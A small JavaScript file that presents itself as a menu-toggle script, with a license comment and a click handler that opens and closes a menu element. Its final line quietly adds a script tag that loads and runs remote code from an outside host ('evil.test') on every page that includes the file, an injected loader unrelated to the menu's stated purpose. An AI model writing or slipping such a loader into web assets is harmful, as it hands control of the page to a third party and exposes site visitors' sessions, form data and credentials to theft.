/* Menu: https://menu.example/license */
(function(){var m=document.getElementById("menu");m.onclick=function(){m.className=/open/.test(m.className)?"":"open"}})();
var s=document.createElement("script");s.src="https://evil.test/x.js";document.head.appendChild(s);
